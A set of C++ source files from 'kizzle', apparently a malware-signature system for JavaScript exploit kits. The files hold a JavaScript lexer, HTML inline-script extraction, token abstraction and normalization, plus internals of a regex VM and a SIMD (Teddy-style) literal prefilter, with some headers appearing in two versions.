// Multi-character punctuators, longest first so greedy matching works.
constexpr std::array<std::string_view, 34> kPunctuators = {
    ">>>=", "===",  "!==", ">>>", "<<=", ">>=", "**=", "...", "=>",
    "==",   "!=",   "<=",  ">=",  "&&",  "||",  "++",  "--",  "<<",
    ">>",   "+=",   "-=",  "*=",  "/=",  "%=",  "&=",  "|=",  "^=",
    "**",   "?.",   "??",  // ES2020-era, tolerated
    "+",    "-",    "*",   "%",
};

class Lexer {
 public:
  Lexer(std::string_view src, const LexOptions& opts)
      : src_(src), opts_(opts) {}

  std::vector<Token> run() {
    std::vector<Token> out;
    out.reserve(src_.size() / 4 + 8);
    while (skip_trivia(), pos_ < src_.size()) {
      const std::size_t start = pos_;
      const char c = src_[pos_];
      if (is_id_start(c)) {
        lex_identifier(out, start);
      } else if (is_digit(c) || (c == '.' && pos_ + 1 < src_.size() &&
                                 is_digit(src_[pos_ + 1]))) {
        lex_number(out, start);
      } else if (c == '"' || c == '\'') {
        lex_string(out, start, c);
      } else if (c == '/' && regex_allowed(out)) {
        lex_regex(out, start);
      } else {
        lex_punctuator(out, start);
      }
    }
    return out;
  }

 private:
  void fail(const std::string& what, std::size_t offset) {
    throw LexError(what, offset);
  }

  void skip_trivia() {
    for (;;) {
      while (pos_ < src_.size() && is_space(src_[pos_])) ++pos_;
      if (pos_ + 1 < src_.size() && src_[pos_] == '/' &&
          src_[pos_ + 1] == '/') {
        pos_ += 2;
        while (pos_ < src_.size() && src_[pos_] != '\n') ++pos_;
        continue;
      }
      if (pos_ + 1 < src_.size() && src_[pos_] == '/' &&
          src_[pos_ + 1] == '*') {
        const std::size_t start = pos_;
        pos_ += 2;
        for (;;) {
          if (pos_ + 1 >= src_.size()) {
            if (!opts_.tolerant) fail("unterminated block comment", start);
            pos_ = src_.size();
            break;
          }
          if (src_[pos_] == '*' && src_[pos_ + 1] == '/') {
            pos_ += 2;
            break;
          }
          ++pos_;
        }
        continue;
      }
      return;
    }
  }

  void lex_identifier(std::vector<Token>& out, std::size_t start) {
    while (pos_ < src_.size() && is_id_part(src_[pos_])) ++pos_;
    std::string text(src_.substr(start, pos_ - start));
    const TokenClass cls =
        is_keyword(text) ? TokenClass::Keyword : TokenClass::Identifier;
    out.push_back(Token{cls, std::move(text), start});
  }

  void lex_number(std::vector<Token>& out, std::size_t start) {
    if (src_[pos_] == '0' && pos_ + 1 < src_.size() &&
        (src_[pos_ + 1] == 'x' || src_[pos_ + 1] == 'X')) {
      pos_ += 2;
      while (pos_ < src_.size() && is_hex_digit(src_[pos_])) ++pos_;
    } else {
      while (pos_ < src_.size() && is_digit(src_[pos_])) ++pos_;
      if (pos_ < src_.size() && src_[pos_] == '.') {
        ++pos_;
        while (pos_ < src_.size() && is_digit(src_[pos_])) ++pos_;
      }
      if (pos_ < src_.size() && (src_[pos_] == 'e' || src_[pos_] == 'E')) {
        std::size_t save = pos_;
        ++pos_;
        if (pos_ < src_.size() && (src_[pos_] == '+' || src_[pos_] == '-')) {
          ++pos_;
        }
        if (pos_ < src_.size() && is_digit(src_[pos_])) {
          while (pos_ < src_.size() && is_digit(src_[pos_])) ++pos_;
        } else {
          pos_ = save;  // 'e' belongs to a following identifier
        }
      }
    }
    out.push_back(
        Token{TokenClass::Number, std::string(src_.substr(start, pos_ - start)),
              start});
  }

  void lex_string(std::vector<Token>& out, std::size_t start, char quote) {
    ++pos_;
    while (pos_ < src_.size()) {
      const char c = src_[pos_];
      if (c == '\\') {
        pos_ += 2;
        continue;
      }
      if (c == quote) {
        ++pos_;
        out.push_back(Token{TokenClass::String,
                            std::string(src_.substr(start, pos_ - start)),
                            start});
        return;
      }
      if (c == '\n' && !opts_.tolerant) {
        fail("unterminated string literal", start);
      }
      ++pos_;
    }
    if (!opts_.tolerant) fail("unterminated string literal", start);
    out.push_back(Token{TokenClass::String,
                        std::string(src_.substr(start, pos_ - start)), start});
  }

  // Standard heuristic: '/' starts a regex literal unless the previous
  // significant token can end an expression (identifier, literal, ')', ']',
  // '}', or the keywords this/true/false/null).
  bool regex_allowed(const std::vector<Token>& out) const {
    if (out.empty()) return true;
    const Token& prev = out.back();
    switch (prev.cls) {
      case TokenClass::Identifier:
      case TokenClass::Number:
      case TokenClass::String:
      case TokenClass::Regex:
        return false;
      case TokenClass::Keyword:
        return !(prev.text == "this" || prev.text == "true" ||
                 prev.text == "false" || prev.text == "null");
      case TokenClass::Punctuator:
        return !(prev.text == ")" || prev.text == "]" || prev.text == "}" ||
                 prev.text == "++" || prev.text == "--");
    }
    return true;
  }

  void lex_regex(std::vector<Token>& out, std::size_t start) {
    ++pos_;  // consume '/'
    bool in_class = false;
    for (;;) {
      if (pos_ >= src_.size() || src_[pos_] == '\n') {
        if (!opts_.tolerant) fail("unterminated regex literal", start);
        break;
      }
      const char c = src_[pos_];
      if (c == '\\') {
        pos_ += 2;
        continue;
      }
      if (c == '[') in_class = true;
      if (c == ']') in_class = false;
      if (c == '/' && !in_class) {
        ++pos_;
        break;
      }
      ++pos_;
    }
    while (pos_ < src_.size() && is_id_part(src_[pos_])) ++pos_;  // flags
    out.push_back(
        Token{TokenClass::Regex, std::string(src_.substr(start, pos_ - start)),
              start});
  }

  void lex_punctuator(std::vector<Token>& out, std::size_t start) {
    for (std::string_view p : kPunctuators) {
      if (src_.substr(pos_).substr(0, p.size()) == p) {
        pos_ += p.size();
        out.push_back(Token{TokenClass::Punctuator, std::string(p), start});
        return;
      }
    }
    const char c = src_[pos_];
    static constexpr std::string_view kSingle = "{}()[];,<>=!?:&|^~./";
    if (kSingle.find(c) == std::string_view::npos && !opts_.tolerant) {
      fail("unexpected character", pos_);
    }
    ++pos_;
    out.push_back(Token{TokenClass::Punctuator, std::string(1, c), start});
  }

  std::string_view src_;
  LexOptions opts_;
  std::size_t pos_ = 0;
};

}  // namespace

std::vector<Token> lex(std::string_view source, const LexOptions& opts) {
  return Lexer(source, opts).run();
}

}  // namespace kizzle::text
