#include "text/html.h"

#include <cctype>

namespace kizzle::text {

namespace {

bool iprefix(std::string_view s, std::size_t pos, std::string_view word) {
  if (pos + word.size() > s.size()) return false;
  for (std::size_t i = 0; i < word.size(); ++i) {
    if (std::tolower(static_cast<unsigned char>(s[pos + i])) !=
        std::tolower(static_cast<unsigned char>(word[i]))) {
      return false;
    }
  }
  return true;
}

// Scans an opening tag starting at `pos` (which points at '<'). Returns the
// position one past the closing '>' and reports whether a src attribute was
// seen. Quoted attribute values may contain '>'.
std::size_t scan_open_tag(std::string_view html, std::size_t pos,
                          bool* has_src) {
  *has_src = false;
  std::size_t i = pos;
  char quote = 0;
  while (i < html.size()) {
    const char c = html[i];
    if (quote != 0) {
      if (c == quote) quote = 0;
      ++i;
      continue;
    }
    if (c == '"' || c == '\'') {
      quote = c;
      ++i;
      continue;
    }
    if (c == '>') return i + 1;
    if ((c == 's' || c == 'S') && iprefix(html, i, "src")) {
      // confirm it is an attribute name boundary: preceded by whitespace
      const char prev = html[i - 1];
      std::size_t j = i + 3;
      while (j < html.size() && std::isspace(static_cast<unsigned char>(html[j]))) ++j;
      if ((prev == ' ' || prev == '\t' || prev == '\n' || prev == '\r') &&
          j < html.size() && html[j] == '=') {
        *has_src = true;
      }
    }
    ++i;
  }
  return html.size();
}

}  // namespace

std::vector<ScriptBlock> extract_scripts(std::string_view html) {
  std::vector<ScriptBlock> out;
  std::size_t pos = 0;
  while (pos < html.size()) {
    const std::size_t lt = html.find('<', pos);
    if (lt == std::string_view::npos) break;
    if (!iprefix(html, lt, "<script") ||
        (lt + 7 < html.size() && html[lt + 7] != '>' &&
         !std::isspace(static_cast<unsigned char>(html[lt + 7])) &&
         html[lt + 7] != '/')) {
      pos = lt + 1;
      continue;
    }
    bool has_src = false;
    const std::size_t body_start = scan_open_tag(html, lt, &has_src);
    // Find the matching close tag, case-insensitively.
    std::size_t end = body_start;
    std::size_t close = std::string_view::npos;
    while (end < html.size()) {
      const std::size_t cand = html.find('<', end);
      if (cand == std::string_view::npos) break;
      if (iprefix(html, cand, "</script")) {
        close = cand;
        break;
      }
      end = cand + 1;
    }
    if (close == std::string_view::npos) {
      // Unterminated script: take the rest of the document (tolerant).
      out.push_back(ScriptBlock{std::string(html.substr(body_start)),
                                body_start, has_src});
      break;
    }
    out.push_back(ScriptBlock{
        std::string(html.substr(body_start, close - body_start)), body_start,
        has_src});
    const std::size_t gt = html.find('>', close);
    pos = (gt == std::string_view::npos) ? html.size() : gt + 1;
  }
  return out;
}

std::string inline_script_text(std::string_view html) {
  std::string out;
  for (const ScriptBlock& block : extract_scripts(html)) {
    if (block.has_src && block.body.find_first_not_of(" \t\r\n") ==
                             std::string::npos) {
      continue;  // external script, no inline content
    }
    if (!out.empty()) out.push_back('\n');
    out.append(block.body);
  }
  return out;
}

}  // namespace kizzle::text
