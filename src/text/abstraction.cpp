#include "text/abstraction.h"

#include <string>

namespace kizzle::text {

namespace {

// Class tags use a '\x01' prefix so they can never collide with real token
// text (no JavaScript token starts with a control character).
std::string class_tag(TokenClass cls) {
  std::string tag("\x01");
  tag.append(token_class_name(cls));
  return tag;
}

}  // namespace

std::vector<std::uint32_t> abstract_tokens(std::span<const Token> tokens,
                                           Abstraction level,
                                           Interner& interner) {
  std::vector<std::uint32_t> out;
  out.reserve(tokens.size());
  for (const Token& t : tokens) {
    switch (level) {
      case Abstraction::ClassOnly:
        out.push_back(interner.intern(class_tag(t.cls)));
        break;
      case Abstraction::KeywordsAndPunct:
        if (t.cls == TokenClass::Keyword || t.cls == TokenClass::Punctuator) {
          out.push_back(interner.intern(t.text));
        } else {
          out.push_back(interner.intern(class_tag(t.cls)));
        }
        break;
      case Abstraction::FullText:
        out.push_back(interner.intern(t.text));
        break;
    }
  }
  return out;
}

}  // namespace kizzle::text
