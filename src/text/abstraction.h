// Token abstraction (paper §III.A).
//
// Clustering runs on an *abstracted* token stream so that randomized
// identifiers, per-response strings and numeric noise do not separate
// samples of the same kit. Keywords and punctuators are concrete by nature
// (the token *is* its text); identifiers/strings/numbers collapse to their
// class. Three levels are provided:
//
//   ClassOnly        every token becomes its class tag
//   KeywordsAndPunct keywords/punctuators keep their text, the rest
//                    collapse to class tags            (paper's scheme)
//   FullText         every token keeps its text (useful for debugging and
//                    for exact-duplicate detection)
#pragma once

#include <cstdint>
#include <span>
#include <vector>

#include "support/interner.h"
#include "text/token.h"

namespace kizzle::text {

enum class Abstraction {
  ClassOnly,
  KeywordsAndPunct,
  FullText,
};

// Maps tokens to interned symbol ids under the given abstraction. All
// streams that are to be compared must share the same Interner.
std::vector<std::uint32_t> abstract_tokens(std::span<const Token> tokens,
                                           Abstraction level,
                                           Interner& interner);

}  // namespace kizzle::text
