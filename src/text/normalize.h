// AV-style text normalization (paper Fig 9).
//
// AV scanners normalize scanned content before signature matching; the
// paper notes quotation marks are removed, and the listed signatures are
// whitespace-free. Kizzle's generated signatures therefore match against
// normalized text, and signature synthesis extracts values from the same
// normalization. (The paper's Fig 10 listings still contain quote
// characters — an internal inconsistency; we follow the Fig 9 description
// and strip them. DESIGN.md §3.5 records this.)
//
// Two normalizers are provided:
//   normalize_raw  byte-level: drop whitespace and quote characters. Works
//                  on any content, mirrors what a real AV engine does.
//   normalize_js   token-level: lex the JavaScript and concatenate token
//                  texts (strings without their quotes). Identical to
//                  normalize_raw on comment-free input, and additionally
//                  drops comments. Falls back to normalize_raw when the
//                  input is not lexable.
#pragma once

#include <string>
#include <string_view>

namespace kizzle::text {

std::string normalize_raw(std::string_view content);

// Appends the raw normalization of `content` to `out`. The deployment
// channels' streaming feed path: per-chunk normalization into a reused
// buffer instead of a fresh temporary string per chunk.
void normalize_raw_append(std::string_view content, std::string& out);

std::string normalize_js(std::string_view source);

// Normalized scan text of a full HTML document: inline scripts extracted,
// each normalized with normalize_js, concatenated. No separator is
// inserted: every candidate byte is stripped by some normalizer, so a
// separator would make the document text diverge from its own
// re-normalization (the old '\n' joiner let signatures match across the
// seam in whole-document scans on text the per-script channel could never
// see). The concatenation is a fixed point of normalize_raw, and the
// per-script channel's scan texts are exact substrings of it.
std::string normalize_document(std::string_view html);

}  // namespace kizzle::text
