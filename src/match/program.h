// Internal compiled representation of a Pattern. Not installed as public
// API; shared between pattern.cpp (parser/compiler) and vm.cpp (executor).
#pragma once

#include <array>
#include <bitset>
#include <cstdint>
#include <string>
#include <vector>

#include "match/pattern.h"  // ConfirmTier (public part of the tier split)

namespace kizzle::match::detail {

enum class Op : std::uint8_t {
  Char,      // arg: byte value
  Class,     // arg: index into class table
  Any,       // any byte except '\n'
  Split,     // try x first, then y (backtrack point)
  Jmp,       // jump to x
  Save,      // arg: capture slot index (2*group for begin, +1 for end)
  Backref,   // arg: group index; matches the text captured by that group
  Bol,       // assert position == 0
  Eol,       // assert position == text.size()
  Progress,  // arg: progress slot; fail if sp unchanged since last visit
  Match,     // accept
};

struct Instr {
  Op op;
  std::uint32_t x = 0;  // Split/Jmp target, Char byte, Class idx, Save slot,
                        // Backref group, Progress slot
  std::uint32_t y = 0;  // Split second target
};

using ByteSet = std::bitset<256>;

// One step of a compiled confirm program (the cheap-confirmation tier for
// literal-dominated patterns): either an exact byte run or a repeated
// byte-class. Prefix steps are fixed width (min == max); suffix steps may
// be bounded ranges (max is never unbounded — classification rejects
// those).
struct ConfirmStep {
  enum class Kind : std::uint8_t { kLiteral, kClass };
  Kind kind = Kind::kLiteral;
  std::string lit;        // kLiteral: the exact bytes
  std::uint32_t cls = 0;  // kClass: index into Program::classes
  std::uint32_t min = 0;  // kClass: repeat bounds
  std::uint32_t max = 0;
};

// The compiled cheap confirmation of a kLiteral / kLiteralDominated
// pattern: every match is `prefix` (fixed width) + `anchor` (an exact
// literal) + `suffix` (bounded greedy steps). Matching anchors on
// text.find(anchor): a match starting at s has the anchor at exactly
// s + prefix_width, so ascending anchor occurrences enumerate candidate
// starts in leftmost order and the greedy suffix walk reproduces the VM's
// backtracking priority — same span, no VM steps, no way to blow up.
struct ConfirmProgram {
  std::string anchor;
  std::vector<ConfirmStep> prefix;
  std::vector<ConfirmStep> suffix;
  std::size_t prefix_width = 0;  // total bytes consumed by `prefix`
};

struct Program {
  std::vector<Instr> code;
  std::vector<ByteSet> classes;
  std::size_t n_groups = 0;     // capturing groups (excluding group 0)
  std::size_t n_progress = 0;   // progress slots
  std::vector<std::string> group_names;  // size n_groups + 1; [0] empty

  // Literal pre-filter: every match contains `literal` starting between
  // min_prefix and max_prefix bytes after the match start. usable == false
  // when no such literal exists (or it is too short to pay off).
  std::string literal;
  std::size_t lit_min_prefix = 0;
  std::size_t lit_max_prefix = 0;
  bool lit_usable = false;
  bool anchored_bol = false;  // pattern starts with ^

  // Confirmation tier + compiled confirm program (valid when tier !=
  // kRegex), classified by pattern.cpp at compile time.
  ConfirmTier tier = ConfirmTier::kRegex;
  ConfirmProgram confirm;
  // True when confirm.anchor is exactly the prefilter-registered literal
  // (Program::literal): a prefilter-supplied leftmost-occurrence position
  // of that literal may then seed the anchor search in confirm_span().
  bool confirm_hintable = false;
};

}  // namespace kizzle::match::detail
