// Internal compiled representation of a Pattern. Not installed as public
// API; shared between pattern.cpp (parser/compiler) and vm.cpp (executor).
#pragma once

#include <array>
#include <bitset>
#include <cstdint>
#include <string>
#include <vector>

namespace kizzle::match::detail {

enum class Op : std::uint8_t {
  Char,      // arg: byte value
  Class,     // arg: index into class table
  Any,       // any byte except '\n'
  Split,     // try x first, then y (backtrack point)
  Jmp,       // jump to x
  Save,      // arg: capture slot index (2*group for begin, +1 for end)
  Backref,   // arg: group index; matches the text captured by that group
  Bol,       // assert position == 0
  Eol,       // assert position == text.size()
  Progress,  // arg: progress slot; fail if sp unchanged since last visit
  Match,     // accept
};

struct Instr {
  Op op;
  std::uint32_t x = 0;  // Split/Jmp target, Char byte, Class idx, Save slot,
                        // Backref group, Progress slot
  std::uint32_t y = 0;  // Split second target
};

using ByteSet = std::bitset<256>;

struct Program {
  std::vector<Instr> code;
  std::vector<ByteSet> classes;
  std::size_t n_groups = 0;     // capturing groups (excluding group 0)
  std::size_t n_progress = 0;   // progress slots
  std::vector<std::string> group_names;  // size n_groups + 1; [0] empty

  // Literal pre-filter: every match contains `literal` starting between
  // min_prefix and max_prefix bytes after the match start. usable == false
  // when no such literal exists (or it is too short to pay off).
  std::string literal;
  std::size_t lit_min_prefix = 0;
  std::size_t lit_max_prefix = 0;
  bool lit_usable = false;
  bool anchored_bol = false;  // pattern starts with ^
};

}  // namespace kizzle::match::detail
