// Teddy-style vectorized literal first stage for the prefilter.
//
// The Aho–Corasick automaton walk (prefilter.h) is byte-at-a-time: every
// scanned byte costs a dependent table load, so single-stream throughput is
// capped by load latency no matter how literal-friendly the database is.
// Hyperscan's Teddy algorithm trades the automaton for SIMD nibble tables:
// a K-byte (1–4) window of every registered literal is folded into
// 16-entry low-nibble/high-nibble shuffle masks, one per window position,
// each entry a per-bucket bitmask. A PSHUFB per table turns 16 (SSSE3)
// or 32 (AVX2) haystack bytes into per-byte bucket masks at once; ANDing
// the per-position masks (shifted against each other, with carry across
// block boundaries) leaves a byte non-zero exactly where some bucket's
// K-byte window ends. Those sparse candidate positions are then confirmed
// by exact comparison against the bucket's literals and mapped back to
// pattern ids.
//
// Plan is the compiled form of ONE shard: up to kShardMaxLiterals literals
// sharing one window length K and one bucket width. build() first picks
// each literal's *rarest* K-byte window — scored by byte frequency over
// the whole literal set, which approximates the scanned content's
// distribution since deployed literals are chunks of real samples —
// rather than blindly using the first K bytes: signature databases cut
// from similar samples share head bytes (digit streams, packer idioms),
// and a first-bytes-only first stage degenerates to a hit on nearly every
// byte. It then groups the windows into buckets (sorted, contiguous
// chunks — shared windows cluster, which keeps the masks selective),
// derives the shuffle tables, and indexes each bucket's literals by their
// window for O(log n) confirmation; a hit at position p means some bucket
// literal's window matches there, and the literal itself is compared at
// p − offset.
//
// Two bucket widths share the machinery:
//
//   8 buckets    the classic plan: one mask byte per scanned byte, 32
//                bytes per AVX2 step. Used for shards small enough that 8
//                buckets keep the anchor rows sparse.
//   16 buckets   the *Fat* plan for crowded shards: mask entries are 16
//                bits (low byte = buckets 0–7, high byte = 8–15), the
//                AVX2 kernel duplicates 16 haystack bytes across both
//                128-bit lanes (lane 0 resolves the low mask byte, lane 1
//                the high one), so wide sets keep one sparse anchor row
//                per bucket at half the bytes-per-step.
//
// PlanSet is the compiled form of an ARBITRARY literal set: literals are
// partitioned into per-length-class shards (window length K = 1, 2, 3 or
// 4), oversized classes split into multiple shards, each shard compiled
// as a Plan (Fat once it is crowded). find() scans the shards
// back-to-back over the same text through one shared HitBuffer — so
// short-literal and >4096-literal registrations keep the SIMD first stage
// instead of falling back to the automaton walk. The 1–2-byte shards run
// the same shift-or dataflow with K=1/2 (the vector kernels degenerate to
// pure table lookups); their hits are denser, but confirmation is a
// window-key lookup plus a bounded memcmp and the per-id dedup bitmap
// caps total work.
//
// First-stage kernels, all interchangeable per shard:
//
//   kScalar  portable 64-bit shift-or: per byte, one table pair lookup
//            yields all K per-position masks packed into a 64-bit word
//            (8- or 16-bit lanes); the running state is shifted one lane
//            and ANDed — exactly the SIMD dataflow one byte at a time.
//            Runs on any host, and is the fallback for Fat plans when
//            AVX2 is absent (SSSE3 has no 16-bucket kernel).
//   kSsse3 / kAvx2  the vector kernels (compiled via per-function target
//            attributes, selected at runtime with cpu-feature detection,
//            so one binary serves any x86-64 host and non-x86 builds keep
//            the scalar path).
//
// All kernels emit byte-identical Hit sequences — asserted by the
// differential tests in tests/teddy_test.cpp — so candidate sets never
// depend on the host's vector width.
#pragma once

#include <array>
#include <cstdint>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

namespace kizzle::match::teddy {

// One first-stage candidate: some bucket literal's K-byte window occurs at
// text[at .. at+K). `buckets` is the bitmask of buckets to confirm (16
// bits so Fat plans fit; 8-bucket plans use the low byte). Positions are
// 32-bit: scanned units are samples/stream windows, not multi-gigabyte
// blobs (callers guard and fall back past 4 GiB).
struct Hit {
  std::uint32_t at = 0;
  std::uint16_t buckets = 0;

  bool operator==(const Hit&) const = default;
};

// Reusable candidate-position buffer. Hot paths (engine::Scratch, the
// streaming matcher) keep one warm so steady-state scans stay
// allocation-free.
using HitBuffer = std::vector<Hit>;

// "No position hint" sentinel for per-id hint arrays (positions fit 32
// bits — callers fall back before 4 GiB texts ever reach a plan).
inline constexpr std::uint32_t kNoHint = 0xFFFFFFFFu;

enum class Impl { kScalar, kSsse3, kAvx2 };

// The static byte frequency prior used to pick each literal's rarest
// window, modeling normalized JS (normalize_raw output: whitespace/quotes
// stripped, so letters/digits/punctuation dominate). Exposed for the
// static analyzer (analyze/analyze.h), which scores literal quality and
// shard hit density against the same prior the planner optimizes for.
double byte_prior(unsigned char b);
// The prior as a probability: byte_prior(b) / sum over all 256 bytes.
double byte_prior_probability(unsigned char b);

// Whether `impl` was compiled in AND the running CPU supports it (kScalar
// is always available).
bool impl_available(Impl impl);
// The fastest available kernel on this host, resolved once.
Impl best_impl();
const char* impl_name(Impl impl);

// Per-find() observability counters (surfaced through the prefilter into
// engine::Scratch stats).
struct ScanCounters {
  std::size_t first_stage_hits = 0;  // candidate windows across all shards
  std::size_t shards_scanned = 0;
};

class Plan {
 public:
  struct Literal {
    std::string text;
    std::size_t id = 0;
  };

  static constexpr std::size_t kBuckets = 8;
  static constexpr std::size_t kFatBuckets = 16;
  // One shard's capacity. Beyond this even 16 buckets get so crowded that
  // first-stage hits stop being sparse; PlanSet splits larger classes
  // into multiple shards instead.
  static constexpr std::size_t kShardMaxLiterals = 8192;

  // Compiles one shard over `n_buckets` (8 or 16) buckets. The window
  // length K is min(4, shortest literal length). Returns nullopt when the
  // set is empty or exceeds kShardMaxLiterals.
  static std::optional<Plan> build(std::vector<Literal> literals,
                                   std::size_t n_buckets = kBuckets);

  std::size_t prefix_len() const { return k_; }  // 1..4
  std::size_t bucket_count() const { return n_buckets_; }
  std::size_t max_literal_len() const { return max_len_; }
  std::size_t literal_count() const { return lits_.size(); }

  // Expected first-stage candidate windows per scanned byte under the
  // byte_prior distribution, computed at build() time from the finished
  // shuffle masks: for each bucket, the product over window positions of
  // the prior probability mass of bytes whose mask includes the bucket;
  // combined across buckets as 1 - prod(1 - d_b). ~0 for selective shards;
  // approaching 1 when nearly every position hits (the confirm-bound case
  // the automaton handles better). Drives dense-shard routing
  // (prefilter.h) and the analyzer's density diagnostics.
  double hit_density_estimate() const { return hit_density_; }

  // Introspection for the static analyzer: the shard's literals and each
  // literal's chosen rare-window offset.
  const std::vector<Literal>& literals() const { return lits_; }
  std::uint32_t window_offset(std::size_t lit_index) const {
    return off_[lit_index];
  }

  // First stage: scans `text` and overwrites `hits` with every candidate
  // position, in ascending order. Thread-safe (the plan is immutable).
  void scan(std::string_view text, HitBuffer& hits) const;
  void scan(std::string_view text, HitBuffer& hits, Impl impl) const;

  // Second stage: confirms `hits` against `text` by exact literal
  // comparison. Every id whose literal occurs at a hit and is not yet
  // marked in `seen` (indexed by id, sized by the caller) is marked and
  // appended to `out`. Returns the updated seen-count; stops early once it
  // reaches `stop_at` (every filterable id found). `hint_at`, when
  // non-null (indexed by id, caller-initialized to kNoHint), receives the
  // start position of the id's leftmost literal occurrence — hits ascend
  // and each literal has one fixed window offset, so the first confirmed
  // occurrence is the leftmost one.
  std::size_t confirm(std::string_view text, const HitBuffer& hits,
                      std::vector<std::uint8_t>& seen,
                      std::vector<std::size_t>& out, std::size_t n_seen,
                      std::size_t stop_at,
                      std::vector<std::uint32_t>* hint_at = nullptr) const;

 private:
  Plan() = default;

  // K bytes as a big-endian integer (first byte most significant), the
  // bucket-local confirmation key of a literal's chosen window.
  std::uint32_t window_key(const char* p) const;

  struct Entry {
    std::uint32_t window = 0;   // window_key of the literal's rare window
    std::uint32_t literal = 0;  // index into lits_
  };

  // Nibble shuffle tables, one row per window position (rows >= k_ stay
  // zero): lo_[p][n] is the low mask byte (buckets 0–7) of literals whose
  // window byte p has low nibble n, lo_[p][16+n] the high mask byte
  // (buckets 8–15, Fat plans only); hi_ likewise for the high nibble.
  // 32-byte aligned so the vector kernels load them directly (the 8-bucket
  // kernels use only the first 16 bytes of each row).
  alignas(32) std::uint8_t lo_[4][32] = {};
  alignas(32) std::uint8_t hi_[4][32] = {};
  // The same tables packed for the scalar kernel: lane p (8-bit lanes for
  // 8-bucket plans, 16-bit for Fat) of lo64_[n] is the position-p mask, so
  // one 64-bit AND evaluates all K positions per byte.
  std::uint64_t lo64_[16] = {};
  std::uint64_t hi64_[16] = {};

  std::size_t k_ = 3;
  std::size_t n_buckets_ = kBuckets;
  std::size_t max_len_ = 0;
  double hit_density_ = 0.0;
  std::vector<Literal> lits_;
  std::vector<std::uint32_t> off_;  // per-literal rare-window offset
  std::vector<Entry> entries_;  // grouped by bucket, sorted by window within
  std::array<std::uint32_t, kFatBuckets + 1> bucket_begin_ = {};
};

// The compiled first stage of a whole literal database: per-length-class
// shards scanned back-to-back. Short literals (length 1–2) get their own
// K=1/K=2 shards; classes larger than Plan::kShardMaxLiterals are split;
// crowded shards go Fat. build() fails only on an empty set — there is no
// qualification gate anymore, so the prefilter never falls back to the
// automaton for real databases.
class PlanSet {
 public:
  using Literal = Plan::Literal;

  // A shard crowded past this many literals is compiled with 16 (Fat)
  // buckets: at 8 buckets it would average >128 literals per bucket and
  // the OR-ed anchor rows stop being sparse.
  static constexpr std::size_t kFatThreshold = 1024;

  static std::optional<PlanSet> build(std::vector<Literal> literals);

  std::size_t shard_count() const { return shards_.size(); }
  const std::vector<Plan>& shards() const { return shards_; }
  std::size_t max_literal_len() const { return max_len_; }
  std::size_t literal_count() const;

  // Expected candidate windows per scanned byte across all shards (sum of
  // the per-shard estimates — shards scan the text back-to-back, so their
  // confirm costs add). The prefilter compares this against its dense-route
  // threshold to decide SIMD vs automaton.
  double expected_hits_per_byte() const;

  // Scans every shard over `text` (sharing `hits` as the per-shard
  // candidate buffer) and confirms into `seen`/`out` exactly like
  // Plan::confirm. Returns the updated seen-count; stops early at
  // `stop_at`. `counters`, when non-null, accumulates first-stage stats;
  // `hint_at` forwards to Plan::confirm (leftmost-occurrence positions).
  // `skip_shard`, when non-null, is indexed by shard position: flagged
  // shards are not scanned — the prefilter routes its dense shards to an
  // automaton walk instead and excises them from the SIMD pass here.
  std::size_t find(std::string_view text, HitBuffer& hits,
                   std::vector<std::uint8_t>& seen,
                   std::vector<std::size_t>& out, std::size_t n_seen,
                   std::size_t stop_at, ScanCounters* counters = nullptr,
                   std::vector<std::uint32_t>* hint_at = nullptr,
                   const std::vector<std::uint8_t>* skip_shard = nullptr) const;

 private:
  PlanSet() = default;

  std::vector<Plan> shards_;
  std::size_t max_len_ = 0;
};

}  // namespace kizzle::match::teddy
