// Teddy-style vectorized literal first stage for the prefilter.
//
// The Aho–Corasick automaton walk (prefilter.h) is byte-at-a-time: every
// scanned byte costs a dependent table load, so single-stream throughput is
// capped by load latency no matter how literal-friendly the database is.
// Hyperscan's Teddy algorithm trades the automaton for SIMD nibble tables:
// the first K (3–4) bytes of every registered literal are folded into
// 16-entry low-nibble/high-nibble shuffle masks, one per prefix position,
// each entry an 8-bit bucket bitmask. A PSHUFB per table turns 16 (SSSE3)
// or 32 (AVX2) haystack bytes into per-byte bucket masks at once; ANDing
// the per-position masks (shifted against each other, with carry across
// block boundaries) leaves a byte non-zero exactly where some bucket's
// K-byte prefix ends. Those sparse candidate positions are then confirmed
// by exact comparison against the bucket's literals and mapped back to
// pattern ids.
//
// Plan is the compiled form. build() first picks each literal's *rarest*
// K-byte window — scored by byte frequency over the whole literal set,
// which approximates the scanned content's distribution since deployed
// literals are chunks of real samples — rather than blindly using the
// first K bytes: signature databases cut from similar samples share
// head bytes (digit streams, packer idioms), and a first-bytes-only
// first stage degenerates to a hit on nearly every byte. It then groups
// the windows into at most kBuckets buckets (sorted, contiguous chunks —
// shared windows cluster, which keeps the masks selective), derives the
// shuffle tables, and indexes each bucket's literals by their window for
// O(log n) confirmation; a hit at position p means some bucket literal's
// window matches there, and the literal itself is compared at p − offset.
// build() returns nullopt when the literal set does not qualify (any
// literal shorter than kMinLiteralLen, or more than kMaxLiterals); callers
// fall back to the automaton walk, so Teddy never changes *what* is found,
// only how fast.
//
// Three interchangeable first-stage kernels share the tables:
//
//   kScalar  portable 64-bit shift-or: per byte, one table pair lookup
//            yields all K per-position masks packed into a 64-bit word;
//            the running state is shifted one lane and ANDed, exactly the
//            SIMD dataflow one byte at a time. Runs on any host.
//   kSsse3 / kAvx2  the vector kernels (compiled via per-function target
//            attributes, selected at runtime with cpu-feature detection,
//            so one binary serves any x86-64 host and non-x86 builds keep
//            the scalar path).
//
// All kernels emit byte-identical Hit sequences — asserted by the
// differential tests in tests/teddy_test.cpp — so candidate sets never
// depend on the host's vector width.
#pragma once

#include <array>
#include <cstdint>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

namespace kizzle::match::teddy {

// One first-stage candidate: some bucket literal's K-byte window occurs at
// text[at .. at+K). `buckets` is the bitmask of buckets to confirm.
// Positions are 32-bit: scanned units are samples/stream windows, not
// multi-gigabyte blobs (callers guard and fall back past 4 GiB).
struct Hit {
  std::uint32_t at = 0;
  std::uint8_t buckets = 0;

  bool operator==(const Hit&) const = default;
};

// Reusable candidate-position buffer. Hot paths (engine::Scratch, the
// streaming matcher) keep one warm so steady-state scans stay
// allocation-free.
using HitBuffer = std::vector<Hit>;

enum class Impl { kScalar, kSsse3, kAvx2 };

// Whether `impl` was compiled in AND the running CPU supports it (kScalar
// is always available).
bool impl_available(Impl impl);
// The fastest available kernel on this host, resolved once.
Impl best_impl();
const char* impl_name(Impl impl);

class Plan {
 public:
  struct Literal {
    std::string text;
    std::size_t id = 0;
  };

